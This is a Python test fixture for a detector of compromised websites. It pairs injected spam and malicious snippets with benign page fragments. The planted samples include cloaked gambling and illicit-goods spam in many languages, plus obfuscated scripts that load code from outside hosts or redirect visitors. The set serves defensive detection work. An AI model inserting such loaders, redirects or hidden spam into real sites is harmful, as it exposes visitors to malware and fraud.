# ruff: noqa: E501  one planted thing a line
"""A seventh labelled set: what reports of broken-into sites print, piece by piece, with what honest
pages have in the same places.
"""

import base64

from tests.members.unlike_frames import framed


def _coded(text):
    return base64.b64encode(text.encode()).decode()


def _shifted(text, step):
    return ",".join(str(ord(one) + step) for one in text)


_AWAY = "https://track.trafficjunction.net/go?z=88"
_LOADER = "var s=document.createElement('script');s.src='https://stat.dataofpages.com/x.js';document.head.appendChild(s);"
PLANTED = {
    "footer credit": "<p class='credit'>Thiết kế bởi <a href='https://nhacai-bamboo.com'>Bamboo nhà cái</a></p>",
    "widget of ten": "<aside><ul>" + "".join(f"<li><a href='https://{one}.com'>{one}</a></li>" for one in ("sky88club", "j88vn", "onewin88", "kq789", "vx88bet", "tk99win")) + "</ul></aside>",
    "hidden by a class of the theme": {"head": "<style>.wp-sb-x{position:fixed;left:-10000px;top:-10000px}</style>", "body": "<div class='wp-sb-x'><a href='https://dota-keo.com'>kèo bóng đá hôm nay</a><a href='https://mayman79.net'>may mắn 79</a></div>"},
    "list of articles": "<ul><li><a href='/2026/10/choi-bai-doi-thuong/'>Top 5 cổng chơi bài đổi thưởng được yêu thích</a></li><li><a href='/2026/10/lo-de-mien-nam/'>Cách tính lô đề miền Nam dễ trúng</a></li><li><a href='/2026/10/tai-xiu-md5/'>Tool tài xỉu MD5 chuẩn 98%</a></li></ul>",
    "tool of dice": "<h1>Tool tài xỉu MD5 mới nhất</h1><p>Nhập mã MD5, tool dự đoán kết quả phiên kế tiếp chính xác 98%, dùng cho mọi cổng game. Tải tool miễn phí, chat admin để lấy key.</p>",
    "baccarat formula": "<h1>Công thức baccarat 1324</h1><p>Áp dụng công thức 1324, người chơi tăng vốn sau mỗi ván thắng: ván đầu một phỉnh, ván hai ba phỉnh. Chọn bàn có cầu nghiêng về nhà con.</p>",
    "casino tour": "<p>Tour đi casino Campuchia, Mộc Bài, Svay Rieng: xe đón tận nhà, tặng phỉnh chơi, buffet và phòng khách sạn miễn phí khi đổi từ 500 đô.</p>",
    "lottery online": "<p>Mua vé số online, chọn số đẹp, trả thưởng gấp 99 lần, có app đánh đề, quay thử mỗi 5 phút xổ số siêu tốc.</p>",
    "fast lottery": "<p>Xổ số siêu tốc 1 phút, 45 giây: kéo hai số, kéo ba số, chẵn lẻ lớn nhỏ. Theo đoàn chuyên gia lên vốn mỗi ngày, đăng ký nhóm Zalo.</p>",
    "football betting for beginners": "<h1>Kèo rung là gì? Cách bắt kèo rung trong bóng đá</h1><p>Kèo rung là kèo mở khi trận đang diễn ra. Tay chơi cần theo sát odds, biết vào tiền khi odds về vàng.</p>",
    "cock fights": "<p>Xem lại đá gà C1 C2 C3 C4 trường gà Thomo sáng nay, video gà đá kịch tính, link cược gà trực tuyến.</p>",
    "e-sport betting": "<p>Cá cược Liên Minh Huyền Thoại, CS2, Dota: tỷ lệ T1 vs GenG, handicap bản đồ, tổng mạng hạ gục, rút tiền nhanh.</p>",
    "card deposit": "<p>Nạp thẻ Viettel, Mobi vào game bài chiết khấu thấp, đổi thưởng 1:1, tặng code 20K cho tân thủ, tải bản iOS qua TestFlight.</p>",
    "mini games": "<p>Xóc đĩa tứ linh, bầu cua thần tài, mini slot đào vàng, tài xỉu siêu tốc, hũ đang 1,8 tỷ sắp nổ.</p>",
    "loans by IDs": "<p>Vay tiền bằng đăng ký xe, bằng sim, bằng iCloud; duyệt hồ sơ 3 phút, lãi từ 0%, tất toán sớm không phí, tải app tại đây.</p>",
    "debts collected": "<p>Nhận đòi nợ thuê toàn quốc, thu hồi công nợ khó đòi, hoa hồng 30%, không thu phí trước, anh em có số có má.</p>",
    "data sold": "<p>Bán data khách hàng VIP, data phụ huynh, data bất động sản, có số điện thoại, địa chỉ, cập nhật 2026, giá sỉ.</p>",
    "phones unlocked": "<p>Định vị số điện thoại, đọc trộm tin nhắn Zalo, theo dõi chồng ngoại tình, cài phần mềm nghe lén từ xa, cam kết bảo mật.</p>",
    "love charms": "<p>Thầy Ba Tà làm bùa yêu, ngải, kéo người yêu quay lại sau 3 ngày, trục vong, cúng giải hạn, liên hệ Zalo nhận tư vấn.</p>",
    "cracked software": "<p>Download full crack Photoshop, IDM, Windows 11 key bản quyền vĩnh viễn 99k, active online, hướng dẫn tắt diệt virus trước khi cài.</p>",
    "films": "<p>Xem phim lậu, phim chiếu rạp full HD vietsub thuyết minh, Phimmoi, Motphim, Bilutv, link Google Drive không quảng cáo.</p>",
    "work from home": "<p>Tuyển cộng tác viên xử lý đơn hàng tại nhà, làm nhiệm vụ TikTok, hoa hồng 20–40%, thu nhập 500k–2 triệu một ngày, rút vốn bất kỳ lúc nào.</p>",
    "breasts": "<p>Nâng ngực nội soi không đau, trọn gói 25 triệu, cắt mí, hút mỡ bụng, trả góp 0%, bác sĩ Hàn Quốc, đặt lịch tặng voucher.</p>",
    "milk": "<p>Sữa non tổ yến trị dứt điểm tiểu đường, xương khớp, được hàng triệu người tin dùng, ưu đãi 70% hôm nay, để lại số điện thoại.</p>",
    "hair": "<p>Serum mọc râu tóc sau 7 ngày, trị hói di truyền, cam kết hoàn tiền gấp đôi, freeship toàn quốc, chỉ còn 12 suất.</p>",
    "poppers": "<p>Popper Mỹ, gel bôi trơn, sextoy, búp bê tình dục, âm đạo giả giá rẻ, đóng gói kín, giao nhanh 2h.</p>",
    "guns": "<p>Bán súng hơi PCP, dao găm, roi điện tự vệ, pháo nổ giàn, ship COD, không ghi tên người gửi.</p>",
    "money": "<p>Bán tiền polymer siêu giống, có số seri khác nhau, tỷ lệ 1 ăn 10, giao dịch trung gian, xem hàng rồi trả.</p>",
    "brides": "<p>Môi giới lấy chồng Đài Loan, Hàn Quốc, không tốn phí, bao thủ tục, gửi hình và số đo qua Zalo.</p>",
    "sim": "<p>Sim lục quý, sim tứ quý giá rẻ, sim rác kích hoạt sẵn nhận OTP, thuê số ảo nhận mã Facebook, Telegram.</p>",
    "site of links": "<h2>Blogroll</h2><a href='https://goo88slots.com'>goo88slots</a> <a href='https://pokerbai-vip.net'>pokerbai vip</a> <a href='https://xosovui99.org'>xosovui99</a>",
    "balada": f"<script>eval(String.fromCharCode({_shifted(_LOADER, 0)}))</script>",
    "from char codes, moved": f"<script>var a=[{_shifted('<script src=https://bl4ckclick.live/j.js></script>', 3)}],o='';for(var i=0;i<a.length;i++)o+=String.fromCharCode(a[i]-3);document.write(o);</script>",
    "coded source": f"<script>var d=document,s=d.createElement('script');s.src=atob('{_coded('https://cdn.clickanalytic.info/a.js')}');d.getElementsByTagName('head')[0].appendChild(s)</script>",
    "coded function": f"<script>Function(atob('{_coded('location.replace(' + repr(_AWAY) + ')')}'))()</script>",
    "ndsw": "<script>;if(typeof ndsw===\"undefined\"){var ndsw=true;(function(){var u=decodeURIComponent('%68%74%74%70%73%3a%2f%2f%72%65%6c%61%79%2d%63%64%6e%2e%63%6f%6d');var x=new XMLHttpRequest();x.open('GET',u);x.send()})();}</script>",
    "redirect of phones, split": "<script>var h='ht'+'tps:'+'//'+'m.vin'+'bet79'+'.com';if(/iPhone|Android/i.test(navigator['userAgent'])){window['location']['replace'](h)}</script>",
    "top frame": f"<script>if(top!=self||document.referrer.indexOf('google')>0){{top.location.href='{_AWAY}'}}</script>",
    "timer": f"<script>setTimeout(function(){{window.location='{_AWAY}'}},1500)</script>",
    "string timer": f"<script>setTimeout(\"location.href='{_AWAY}'\",900)</script>",
    "refresh with entity": "<meta http-equiv='Refresh' content='0; url=https:&#47;&#47;vinbet79.com/'>",
    "frame of the whole window": "<iframe src='https://vinbet79.com/' style='position:fixed;top:0;left:0;bottom:0;right:0;width:100%;height:100%;border:none;z-index:999999'></iframe>",
    "picture with a map": "<img src='/x.jpg' usemap='#m'><map name='m'><area shape='rect' coords='0,0,900,900' href='https://vinbet79.com/'></map>",
    "title of a post": {"title": "Vinbet79 – Sân chơi trực tuyến số 1 cho dân mê thể thao", "body": "<p>Nội dung đang cập nhật.</p>"},
    "head of slots": {"head": "<meta name='description' content='Link vào Vinbet79 chính chủ, không chặn, thưởng chào mừng 3 triệu, thể thao, bắn cá, nổ hũ'>"},
    "Japanese titles": "<ul><li><a href='/?shop=12001'>レディース 財布 新作 セール 送料無料</a></li><li><a href='/?shop=12002'>工具セット 電動ドライバー 特価</a></li><li><a href='/?shop=12003'>ベビーカー 中古 美品</a></li></ul>",
    "Chinese text put away": "<div style='display:none'>欧洲杯投注 世界杯买球官网 滚球app 足球外围 篮球竞猜 <a href='https://qiu365.net'>买球</a></div>",
    "Thai at the foot": "<div class='foot2'><a href='https://pgslot-auto.com'>พีจีสล็อต ทดลองเล่นฟรี เครดิต 50</a></div>",
    "Indonesian at the foot": "<div class='foot2'><a href='https://rajatoto-asli.com'>toto slot 4d terpercaya</a> <a href='https://bandarqq-resmi.com'>bandarqq pkv games</a></div>",
    "Korean comment": "<div class='comment'>강남 오피 안마 출장마사지 최저가 문의 <a href='https://opgirl-kr.com'>바로가기</a></div>",
    "English essays": "<p>Students often ask us to write their coursework. <a href='https://papergenie-pro.com'>Pay someone to write my essay</a> and get an A or your money back.</p>",
    "English tablets": "<div style='font-size:0'>Where to buy modafinil, ambien without a prescription, <a href='https://sleepmeds-usa.com'>order xanax bars overnight</a></div>",
    "English loans": "<a href='https://quickcash-advance.com'>same day payday loans guaranteed approval direct lender</a>",
    "English casino": "<a href='https://spincity-aus.com'>best real money pokies Australia</a>",
    "English dating": "<p>Russian brides and Asian girls are waiting for you. <a href='https://meetasiangirls.net'>Chat with sexy girls free</a></p>",
    "English essays in a comment": "<div class='comment'><a href='https://vapedeal-uk.com' rel='nofollow'>cheap disposable vapes wholesale</a> Nice article, thanks for sharing!</div>",
    "Turkish": "<div style='text-indent:-9999px'><a href='https://betasya-tr.com'>kaçak iddaa siteleri</a> <a href='https://escort-ist.com'>istanbul escort bayan</a></div>",
    "Russian": "<div style='display:none'><a href='https://1win-zerkalo.com'>1win зеркало рабочее скачать</a> кракен даркнет ссылка, мефедрон купить</div>",
    "Arabic": "<div style='position:absolute;left:-5000px'><a href='https://kora-bets.com'>مراهنات كرة القدم كازينو اون لاين</a></div>",
    "Portuguese": "<a href='https://tigrinho-paga.com'>jogo do tigrinho demo grátis plataforma pagando</a>",
}  # fmt: skip

HONEST = {
    "footer credit": "<p class='credit'>Thiết kế bởi <a href='https://vietnix.com'>Vietnix Software</a></p>",
    "widget of six": "<aside><ul>" + "".join(f"<li><a href='https://{one}'>{one}</a></li>" for one in ("baochinhphu.vn", "sggp.org.vn", "hcmcpv.org.vn", "unesco.org", "worldbank.org", "adb.org")) + "</ul></aside>",
    "list of articles": "<ul><li><a href='/a/1'>Xử lý nghiêm cổng chơi bài đổi thưởng trá hình</a></li><li><a href='/a/2'>Dẹp nạn ghi lô đề ở chợ</a></li><li><a href='/a/3'>Tuyên truyền tác hại tài xỉu online</a></li></ul>",
    "tricks explained": "<p>Các tool “dự đoán tài xỉu MD5” đều là bẫy: nạn nhân tải về bị chiếm quyền điện thoại, mất tiền trong tài khoản. Công an đề nghị người dân cảnh giác.</p>",
    "tours abroad": "<p>Cảnh báo bẫy “việc nhẹ lương cao”, “tour casino miễn phí” sang Campuchia: nhiều thanh niên bị giữ, đòi tiền chuộc.</p>",
    "ticket sellers": "<p>Người bán vé số dạo được tặng bảo hiểm y tế; đại lý vé số cam kết thu lại vé ế khi mưa bão.</p>",
    "debts": "<p>Luật Đầu tư cấm kinh doanh dịch vụ đòi nợ thuê; người dân bị đòi nợ kiểu khủng bố trình báo công an phường.</p>",
    "personal data": "<p>Khởi tố nhóm mua bán dữ liệu cá nhân: 2 triệu dòng thông tin khách hàng bị rao bán trên mạng.</p>",
    "listening": "<p>Cẩn trọng phần mềm nghe lén cài trên điện thoại; cách kiểm tra và gỡ bỏ; hành vi đọc trộm tin nhắn bị xử phạt.</p>",
    "superstition": "<p>Bài trừ mê tín dị đoan: thầy bùa lừa đảo chiếm đoạt 800 triệu đồng của người muốn “kéo người yêu quay lại”.</p>",
    "software": "<p>Ra quân kiểm tra bản quyền phần mềm: không dùng bản crack, không tắt phần mềm diệt virus; trường học được cấp key bản quyền miễn phí.</p>",
    "pirate films": "<p>Khởi tố vụ Phimmoi: xâm phạm quyền tác giả; người dân nên xem phim ở nền tảng hợp pháp.</p>",
    "work at home": "<p>Lật tẩy chiêu tuyển cộng tác viên làm nhiệm vụ TikTok hưởng hoa hồng: nạn nhân nạp 300 triệu đồng rồi mất trắng.</p>",
    "beauty": "<p>Đình chỉ cơ sở thẩm mỹ nâng ngực, hút mỡ không phép; một khách nhập viện vì sốc thuốc tê.</p>",
    "supplements": "<p>Sữa non không phải thuốc, không trị tiểu đường: Cục An toàn thực phẩm khuyến cáo người cao tuổi.</p>",
    "weapons": "<p>Vận động giao nộp súng hơi, dao găm, pháo nổ; ai tàng trữ trái phép bị xử lý theo Luật Quản lý vũ khí.</p>",
    "false money": "<p>Bắt nhóm mua bán tiền giả polymer trên mạng; cách nhận biết tiền thật, tiền giả do Ngân hàng Nhà nước hướng dẫn.</p>",
    "marriage": "<p>Tư vấn kết hôn có yếu tố nước ngoài: hồ sơ gồm giấy xác nhận tình trạng hôn nhân; cấm môi giới kết hôn trái phép.</p>",
    "sims": "<p>Chặn sim rác: nhà mạng khóa số kích hoạt sẵn; không cho thuê sim, không nhận OTP hộ người lạ.</p>",
    "loader": "<script>var s=document.createElement('script');s.src='https://www.google.com/recaptcha/api.js';document.head.appendChild(s)</script>",
    "coded words": f"<script>var m=atob('{_coded('Đang tải dữ liệu, vui lòng chờ')}');document.getElementById('x').textContent=m</script>",
    "numbers": "<script>var data=[12,18,25,31,28,40,52,61,58,49,37,22,18,15,44,61];draw('c1',data)</script>",
    "own phones": "<script>if(/Android|iPhone/.test(navigator.userAgent)){document.body.className+=' mobile'}</script>",
    "timer": "<script>setTimeout(function(){window.location='/trang-chu'},3000)</script>",
    "frame": "<iframe src='https://www.youtube.com/embed/x' width='100%' height='400'></iframe><iframe src='https://zalo.me/share' width='0' height='0'></iframe>",
    "map of areas": "<img src='/b.jpg' usemap='#m'><map name='m'><area href='https://dichvucong.gov.vn' coords='0,0,9,9'><area href='/lien-he' coords='0,9,9,9'></map>",
    "Japanese twin town": "<p>Đoàn thành phố Kobe (神戸市) tặng 30 máy tính; học sinh hai nước giao lưu trực tuyến.</p>",
    "Thai visitors": "<p>Tổng Lãnh sự Thái Lan (สถานกงสุลใหญ่ ณ นครโฮจิมินห์) thăm chùa Candaransi.</p>",
    "English comment": "<div class='comment'><b>John</b><p>Thank you for the clear guide on visa extension, it helped me a lot.</p></div>",
    "English grants": "<p>Apply for the city's innovation grant: free coaching, seed money up to 2 billion dong, deadline 15 December.</p>",
    "English pharmacies": "<p>Duty pharmacies tonight: list of drugstores open until midnight; prescription drugs need a doctor's note.</p>",
    "French school": "<p>Le lycée français organise un concours d'éloquence; inscriptions gratuites auprès du secrétariat à Ho Chi Minh-Ville.</p>",
    "sports": "<p>Đội tuyển e-sports thành phố giành huy chương vàng; Dota, Liên Minh đưa vào hội thi học sinh; không tổ chức cá cược.</p>",
    "games at fair": "<p>Hội chợ có bầu cua nhận quà, ném vòng, quay số; không ăn tiền; trẻ em vào cửa miễn phí.</p>",
    "betting law": "<p>Góp ý dự thảo: người chơi đặt cược bóng đá quốc tế phải từ đủ 21 tuổi; tỷ lệ trả thưởng do doanh nghiệp công bố.</p>",
    "loans by bank": "<p>Agribank cho vay tiêu dùng duyệt trong ngày, lãi từ 6%, hỗ trợ cán bộ, công nhân; liên hệ phòng giao dịch gần nhất.</p>",
    "sale": "<p>Ngày hội mua sắm không tiền mặt: giảm 50%, tặng voucher, freeship nội thành, quét mã nhận quà.</p>",
    "clinic": "<p>Trạm y tế khám nam khoa, sức khỏe sinh sản miễn phí; tư vấn kín đáo; đăng ký trước qua tổng đài 1022.</p>",
    "hair": "<p>Hội thi tay nghề cắt tóc, trang điểm của thanh niên; thí sinh được hỗ trợ dụng cụ.</p>",
    "hidden search": "<div style='display:none' id='gs'><input name='q' placeholder='Tìm kiếm'><a href='/tim-kiem'>Nâng cao</a></div>",
}  # fmt: skip


def planted_cases():
    """Yield (name, html) of each piece in one of the frames."""
    yield from framed(PLANTED)


def clean_cases():
    """Yield (name, html) of each piece in one of the frames."""
    yield from framed(HONEST)
